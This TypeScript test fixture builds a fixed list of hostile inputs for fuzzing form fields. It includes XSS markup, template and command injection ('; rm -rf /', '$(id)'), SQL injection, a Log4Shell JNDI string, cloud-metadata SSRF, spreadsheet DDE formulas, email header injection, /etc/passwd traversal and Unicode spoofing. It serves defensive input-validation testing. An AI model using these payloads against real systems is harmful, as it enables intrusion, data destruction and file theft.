/** What people with bad intentions type where words are asked for. */
const MARKUP = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '<iframe src="file:///etc/passwd"></iframe>',
  '<img src="http://169.254.169.254/latest/meta-data/">',
  '<a href="javascript:alert(1)">ici</a>',
  '<meta http-equiv="refresh" content="0;url=//x.example">',
  '<style>@import url(//x.example)</style>',
  '</textarea><script>alert(1)</script>',
  '<!--#exec cmd="id"-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<!ENTITY x SYSTEM "file:///etc/passwd">&x;',
  '&lt;script&gt;',
  '&#60;script&#62;',
  '\\u003cscript\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '[ici](javascript:alert(1))',
  '![](http://x.example/a.png)',
  '*/alert(1)/*',
  '`-alert(1)-`',
];

const TEMPLATES = [
  '{{7*7}}',
  '{{ cycler.__init__.__globals__ }}',
  '{% include "/etc/passwd" %}',
  '{# rien #}',
  '\u0024{7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '@(7*7)',
  '$(id)',
  '`id`',
  '; rm -rf /',
  '| cat /etc/passwd',
  '%s%n%x',
  '{0}',
  '{date}',
  '$&$1$`',
  '__proto__',
  'constructor.prototype',
  '{"$gt":""}',
  "' OR 1=1 --",
  "'; DROP TABLE dispute; --",
  '\\x27; SELECT pg_sleep(9)',
  '\u0024{jndi:ldap://x.example/a}',
  '../../../../etc/passwd',
  'file:///etc/passwd',
];

const HEADERS = [
  'a\r\nBcc: x@example.org',
  'a\nSet-Cookie: s=1',
  'a\r\n\r\n<html>',
  'a%0d%0aBcc:%20x@example.org',
  '=?utf-8?q?a=0D=0ABcc:_x@example.org?=',
  'a\u2028Bcc: x@example.org',
  'a\u0085Bcc: x@example.org',
  '"x@example.org" <a@example.org>, b@example.org',
  'To: tous',
];

const FORMULAS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://x.example";"ici")',
  '+1+1',
  '-1-1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '"=1+1"',
  'a;=1+1',
  'a","=1+1',
];

const SIGNS = [
  'avant \u202eessevni\u202c après',
  '\u2066isolé\u2069',
  '\u2067tourné',
  'a\u200bb\u200cc\u200dd',
  '\ufeffmarque',
  'Zoe\u0301 et Zoé',
  `Z${'\u0301'.repeat(60)}`,
  'раураl.com',
  'ⅰⅼⅼⅰⅽⅰtⅰoⅼ',
  '𝕁𝕖𝕒𝕟',
  'ＦＵＬＬ',
  '👩‍⚖️ ⚖️ 🇫🇷',
  'العربية عبرית',
  '漢字',
  '\u00a0\u3000blanc',
  '\ufff9a\ufffab\ufffb',
  '\u{e0001}\u{e0061}étiquette',
  'İstanbul ıǰ ß ﬀ',
  '\ud7ff \ue000 \ufdd0',
];

const LONG = [
  'a'.repeat(190),
  `${'mot '.repeat(45)}fin`,
  '%'.repeat(150),
  '\\'.repeat(150),
  '"'.repeat(150),
  '.'.repeat(150),
];

/** No keyboard writes these: they are refused at the door, and never reach a column. */
const UNREADABLE = [
  'nul\u0000nul',
  '\u0000',
  'a\u0001b',
  '\u001b[31mrouge\u001b[0m',
  '\u0007',
  'a\u000bb',
  'a\u000cb',
  'a\u007fb',
  'moitié \ud800 haute',
  'moitié \udfff basse',
  '\ud83d',
  '\udc00\ud800',
  '\u001f',
  '\b\b\b',
  '',
  '   ',
  '\n\t\r\n',
  '\u00a0\u3000',
];

/** Before and after: what a hostile text is put between, so that it begins, ends or stands inside. */
const BETWEEN: readonly (readonly [string, string])[] = [
  ['', ''],
  ['Bonjour ', ' merci'],
  ['«', '»'],
  ['{{', '}}'],
  ['x', '\\'],
  ['=', ''],
];

export interface Payload {
  readonly text: string;
  /** By what is written here, apart from the program: words may hold it, or a line may. */
  readonly fit: { readonly words: boolean; readonly line: boolean };
}

/** The same ones always, each once. */
export function payloads(): readonly Payload[] {
  const typed = [...MARKUP, ...TEMPLATES, ...HEADERS, ...FORMULAS, ...SIGNS, ...LONG];
  const between = BETWEEN.flatMap(([before, after]) => typed.map((text) => `${before}${text}${after}`));
  const unreadable = UNREADABLE.flatMap((text) => (text.trim() === '' ? [text] : [text, `a ${text} b`]));
  const readable = new Set(between);
  return [
    ...[...readable].map((text) => ({ text, fit: { words: true, line: oneLine(text) } })),
    ...[...new Set(unreadable)].map((text) => ({ text, fit: { words: false, line: false } })),
  ];
}

/** Nothing that ends a line or turns its direction. */
function oneLine(text: string): boolean {
  return ![...text].some((sign) =>
    '\t\r\n\u0085\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069'.includes(sign),
  );
}
